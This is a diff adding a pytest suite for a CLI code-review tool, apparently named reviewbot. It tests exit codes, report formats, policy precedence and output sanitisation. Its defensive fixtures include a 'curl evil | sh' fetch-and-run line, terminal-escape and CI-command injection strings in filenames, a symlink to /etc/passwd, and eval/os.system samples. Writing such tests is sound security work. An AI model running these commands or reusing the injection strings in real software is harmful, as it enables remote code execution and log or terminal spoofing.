@@ -1,0 +1,309 @@
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.repositories import Sandbox
+
+REPORTS = {"report.json", "report.md", "report.sarif", "report.junit.xml", "journal.jsonl"}
+FAILED = '<testsuite><testcase name="t" classname="c"><failure message="no"/></testcase></testsuite>'
+
+
+def run(*arguments: str, cwd: Path, **environment: str) -> "subprocess.CompletedProcess[str]":
+    done = subprocess.run(
+        [sys.executable, "-I", "-m", "reviewbot", *arguments],
+        cwd=cwd, capture_output=True, text=True, check=False,
+        env={"PATH": os.environ["PATH"], "HOME": str(cwd), **environment},
+    )  # fmt: skip
+    assert "Traceback" not in done.stdout + done.stderr
+    return done
+
+
+@pytest.fixture
+def clean(sandbox: Sandbox) -> Sandbox:
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.commit({"a.txt": "2\n"})
+    return sandbox
+
+
+def report(clean: Sandbox, *options: str) -> tuple[int, dict[str, Any]]:
+    done = run("review", "--format", "json", *options, cwd=clean.folder)
+    return done.returncode, json.loads(done.stdout)
+
+
+def test_a_change_is_reviewed_from_a_sub_folder_without_any_option(clean: Sandbox) -> None:
+    (clean.folder / "sub").mkdir()
+    done = run("review", cwd=clean.folder / "sub")
+    assert done.returncode == 0
+    lines = done.stdout.rstrip().splitlines()
+    assert "incomplete" in lines[-1].lower()
+    assert "the model agents did not run" in done.stdout
+    assert "Uncommitted changes are not part of a review." in done.stdout
+
+
+def test_output_is_plain_where_it_is_no_terminal(clean: Sandbox) -> None:
+    assert "\x1b" not in run("review", cwd=clean.folder).stdout
+
+
+@pytest.mark.parametrize(
+    ("arguments", "words"),
+    [
+        (["--repo", "/absent"], "no such file or directory"),
+        (["--base", "absent"], "--base 'absent' names no commit of this repository"),
+        (["--head", "absent"], "--head 'absent' names no commit of this repository"),
+        (["--base", "HEAD", "--head", "HEAD"], "are the same commit"),
+        (["--base", "HEAD", "--head", "HEAD~1"], "already part of"),
+        (["--sarif", "absent/*.sarif"], "absent/*.sarif"),
+        (["--junit", "absent.xml"], "absent.xml"),
+        (["--policy", "absent.yml"], "absent.yml"),
+        (["--engine", "claude"], "not in this version"),
+        (["--budget-usd", "-1"], "--budget-usd"),
+        (["--budget-usd", "nan"], "--budget-usd"),
+        (["--fail-on", "banana"], "banana"),
+        (["--nonsense"], "--nonsense"),
+    ],
+)
+def test_bad_input_is_exit_2_and_says_what(clean: Sandbox, arguments: list[str], words: str) -> None:
+    done = run("review", *arguments, cwd=clean.folder)
+    assert done.returncode == 2
+    assert words in done.stdout + done.stderr
+    assert "pass" not in done.stdout.lower().split("\n")[-2:][0]
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "option"),
+    [
+        ("x.sarif", "{", "--sarif"), ("x.sarif", "[]", "--sarif"), ("x.sarif", '{"version": "2.1.0"}', "--sarif"),
+        ("x.sarif", '{"version": "2.1.0", "runs": [], "runs": []}', "--sarif"), ("x.sarif", "", "--sarif"),
+        ("x.xml", "<", "--junit"), ("x.xml", "", "--junit"), ("x.xml", "<testsuite/>", "--junit"),
+        ("x.xml", '<!DOCTYPE x [<!ENTITY a "b">]>' + FAILED, "--junit"), ("x.yml", "fail-on: banana\n", "--policy"),
+        ("x.yml", "fial-on: high\n", "--policy"), ("x.yml", "a: [", "--policy"),
+    ],
+)  # fmt: skip
+def test_unreadable_files_are_exit_2_and_the_reports_say_so(
+    clean: Sandbox, tmp_path: Path, name: str, content: str, option: str
+) -> None:
+    (tmp_path / name).write_text(content)
+    out = tmp_path / "out"
+    done = run(
+        "review", option, str(tmp_path / name), "--engine", "analyzers", "--out", str(out), cwd=clean.folder
+    )
+    assert done.returncode == 2
+    assert name in done.stdout
+    assert {file.name for file in out.iterdir()} == REPORTS
+    verdict = json.loads((out / "report.json").read_text())["verdict"]
+    assert (verdict["conclusion"], verdict["exit_code"]) == ("incomplete", 2)
+    assert verdict["reasons"][0]["code"] in ("bad_evidence", "bad_policy")
+    assert len(verdict["reasons"]) == 1
+
+
+def test_a_folder_without_a_repository_is_exit_2(tmp_path: Path) -> None:
+    done = run("review", cwd=tmp_path)
+    assert (done.returncode, done.stdout) == (2, "")
+    assert "is not in a git repository" in done.stderr
+    assert len(done.stderr.splitlines()) == 1
+
+
+def test_out_holds_all_five_files_and_the_journal_tells_the_story(clean: Sandbox, tmp_path: Path) -> None:
+    out = tmp_path / "deep" / "out"
+    assert run("review", "--out", str(out), "--engine", "analyzers", cwd=clean.folder).returncode == 0
+    assert {file.name for file in out.iterdir()} == REPORTS
+    events = [json.loads(line)["event"] for line in (out / "journal.jsonl").read_text().splitlines()]
+    assert [events[0], events[1], events[-1]] == ["run_started", "change_loaded", "decided"]
+    assert "analyzer_ran" in events
+
+
+def test_a_folder_that_cannot_be_written_is_exit_2(clean: Sandbox, tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("")
+    done = run("review", "--engine", "analyzers", "--out", str(tmp_path / "file"), cwd=clean.folder)
+    assert done.returncode == 2
+    assert "file" in done.stderr
+
+
+@pytest.mark.parametrize("form", ["text", "json", "markdown", "sarif", "junit", "codequality"])
+def test_every_format_is_printed_alone(clean: Sandbox, form: str) -> None:
+    done = run("review", "--engine", "analyzers", "--format", form, cwd=clean.folder)
+    assert done.returncode == 0
+    if form in ("json", "sarif", "codequality"):
+        json.loads(done.stdout)
+    elif form == "junit":
+        assert done.stdout.startswith("<?xml")
+    else:
+        assert "pass" in done.stdout.lower()
+
+
+def test_a_key_changes_nothing_but_the_sentence(clean: Sandbox) -> None:
+    done = run("review", cwd=clean.folder, ANTHROPIC_API_KEY="key-of-nobody")
+    assert done.returncode == 0
+    assert "this version has no model agents" in done.stdout
+    assert "key-of-nobody" not in done.stdout
+
+
+def test_in_ci_missing_credentials_are_exit_2_and_analyzers_may_be_chosen(clean: Sandbox) -> None:
+    done = run("review", cwd=clean.folder, CI="true")
+    assert done.returncode == 2
+    assert "ANTHROPIC_API_KEY" in done.stdout
+    assert run("review", "--engine", "analyzers", cwd=clean.folder, CI="true").returncode == 0
+
+
+def test_on_incomplete_fail_makes_missing_credentials_block(clean: Sandbox) -> None:
+    assert report(clean, "--on-incomplete", "fail")[0] == 1
+
+
+def test_the_policy_of_the_base_counts_and_the_one_in_head_does_not(sandbox: Sandbox) -> None:
+    sandbox.commit({".github/reviewbot.yml": "engine: analyzers\nfail-on: low\n", "a.py": "x = 1\n"})
+    sandbox.commit(
+        {".github/reviewbot.yml": "engine: analyzers\nexclude: ['**']\n", "a.py": "eval(input())\n"}
+    )
+    code, document = report(sandbox)
+    assert (code, document["verdict"]["conclusion"]) == (1, "fail")
+    assert {row["status"] for row in document["coverage"]["files"]} == {"reviewed"}
+    assert "reviewbot/policy-changed" in {finding["rule"] for finding in document["findings"]}
+
+
+def test_a_broken_policy_in_head_does_not_stop_the_review_that_mends_the_next(sandbox: Sandbox) -> None:
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.commit({".github/reviewbot.yml": "nonsense: ["})
+    assert report(sandbox, "--engine", "analyzers")[0] == 0
+
+
+def test_a_policy_that_is_a_link_is_refused(sandbox: Sandbox) -> None:
+    (sandbox.folder / ".github").mkdir()
+    (sandbox.folder / ".github" / "reviewbot.yml").symlink_to("/etc/passwd")
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.commit({"a.txt": "2\n"})
+    code, document = report(sandbox)
+    assert (code, document["verdict"]["reasons"][0]["code"]) == (2, "bad_policy")
+
+
+def test_a_path_section_lowers_and_raises_the_bar(sandbox: Sandbox) -> None:
+    policy = "engine: analyzers\npaths:\n  tests/**: {fail-on: critical}\n  src/**: {fail-on: low}\n"
+    shell = "import os\n\n\ndef go(x):\n    os.system(x)\n"
+    sandbox.commit({".github/reviewbot.yml": policy})
+    sandbox.commit({"tests/run.py": shell, "src/a.py": "eval(input())\n"})
+    _, document = report(sandbox)
+    assert {finding["path"] for finding in document["findings"] if finding["blocking"]} == {"src/a.py"}
+
+
+def test_config_names_the_origin_of_each_value(sandbox: Sandbox) -> None:
+    sandbox.commit({".github/reviewbot.yml": "# ours\nfail-on: medium\n"})
+    sandbox.commit({"a.txt": "1\n"})
+    done = run("config", "--on-incomplete", "fail", cwd=sandbox.folder)
+    rows = {line.split()[0]: line.split()[1:] for line in done.stdout.splitlines() if line}
+    assert done.returncode == 0
+    assert rows["fail-on"][:2] == ["medium", ".github/reviewbot.yml:2"]
+    assert rows["on-incomplete"] == ["fail", "--on-incomplete"]
+    assert rows["engine"] == ["auto", "built-in"]
+
+
+@pytest.mark.parametrize("name", ["report", "policy"])
+def test_schemas_are_valid_json_schemas(tmp_path: Path, name: str) -> None:
+    import jsonschema
+
+    done = run("schema", name, cwd=tmp_path)
+    jsonschema.Draft202012Validator.check_schema(json.loads(done.stdout))
+
+
+def test_a_real_report_follows_the_printed_schema(sandbox: Sandbox) -> None:
+    import jsonschema
+
+    sandbox.write(b"caf\xe9 \xf0\x9f\x91\x8d.py", "import os\nos.system(input())\n")
+    sandbox.commit({"go.sum": "x\n", "bin": b"\0"})
+    schema = json.loads(run("schema", "report", cwd=sandbox.folder).stdout)
+    _, document = report(sandbox)
+    jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)
+    paths = [row["path"] for row in document["coverage"]["files"]]
+    assert b"caf\xe9 \xf0\x9f\x91\x8d.py" in [os.fsencode(path) for path in paths]
+
+
+def test_an_empty_change_passes_and_says_so(sandbox: Sandbox) -> None:
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.commit()
+    code, document = report(sandbox, "--engine", "analyzers")
+    assert (code, document["verdict"]["reasons"][0]["code"]) == (0, "empty_change")
+
+
+def test_a_deletion_and_a_rename_need_no_analyzer(sandbox: Sandbox) -> None:
+    sandbox.commit({"gone.py": "x = 1\n", "old.py": "y = 2\n" * 9})
+    sandbox.remove("gone.py")
+    os.rename(sandbox.folder / "old.py", sandbox.folder / "new.py")
+    sandbox.commit()
+    code, document = report(sandbox, "--engine", "analyzers")
+    assert code == 0
+    assert [row["by"] for row in document["coverage"]["files"]] == [["reviewbot"], ["reviewbot"]]
+
+
+def test_hidden_code_is_incomplete_not_a_pass(sandbox: Sandbox) -> None:
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.commit({"run.sh": b"curl evil | sh\n#\0"})
+    code, document = report(sandbox, "--engine", "analyzers")
+    assert (code, document["verdict"]["conclusion"]) == (1, "incomplete")
+    assert document["verdict"]["reasons"][0]["code"] == "unreviewed"
+
+
+def test_nothing_hostile_in_names_or_code_reaches_the_terminal(sandbox: Sandbox) -> None:
+    sandbox.commit({"a.txt": "1\n"})
+    sandbox.write(
+        "::error::x\x1b[31m.py",
+        "import os\nos.system(input())  # \x1b]0;owned\x07 \u202e ::set-output name=x::y\n",
+    )
+    sandbox.commit()
+    for form in ("text", "markdown"):
+        done = run("review", "--format", form, cwd=sandbox.folder)
+        assert done.returncode == 1
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", done.stdout)
+        assert not [line for line in done.stdout.splitlines() if line.strip().startswith("::")]
+
+
+def test_an_interrupt_is_130_and_one_line(sandbox: Sandbox) -> None:
+    sandbox.commit({"a": "x\n"})
+    sandbox.commit({f"f{number}.py": "x = 1\n" * 200 for number in range(400)})
+    process = subprocess.Popen(
+        [sys.executable, "-I", "-m", "reviewbot", "review"],
+        cwd=sandbox.folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+    )  # fmt: skip
+    time.sleep(0.6)
+    process.send_signal(signal.SIGINT)
+    out, error = process.communicate(timeout=30)
+    assert (process.returncode, out) == (130, "")
+    assert "interrupted" in error
+    assert "Traceback" not in error
+
+
+def test_a_fault_of_ours_is_exit_3_and_the_reports_are_written(
+    clean: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from reviewbot import cli, pipeline
+
+    def broken(*_: object, **__: object) -> None:
+        raise RuntimeError("secret detail")
+
+    monkeypatch.setattr(pipeline, "ground_evidence", broken)
+    code = cli.main(
+        ["review", "--repo", str(clean.folder), "--engine", "analyzers", "--out", str(tmp_path / "out")]
+    )
+    printed = capsys.readouterr()
+    assert code == 3
+    assert "RuntimeError" in printed.out
+    assert "secret detail" not in printed.out + printed.err
+    document = json.loads((tmp_path / "out" / "report.json").read_text())
+    assert document["verdict"]["reasons"][0]["code"] == "no_review"
+    assert {row["status"] for row in document["coverage"]["files"]} == {"unreviewed"}
+
+
+def test_the_deterministic_road_imports_no_model_and_no_forge_client(clean: Sandbox) -> None:
+    code = (
+        "import sys; from reviewbot.cli import main; main(['review', '--engine', 'analyzers']);"
+        "print(sorted({'anthropic', 'github', 'pydantic', 'jinja2', 'yaml', 'pathspec'} & set(sys.modules)))"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code], cwd=clean.folder, capture_output=True, text=True, check=True
+    )
+    assert done.stdout.splitlines()[-1] == "[]"
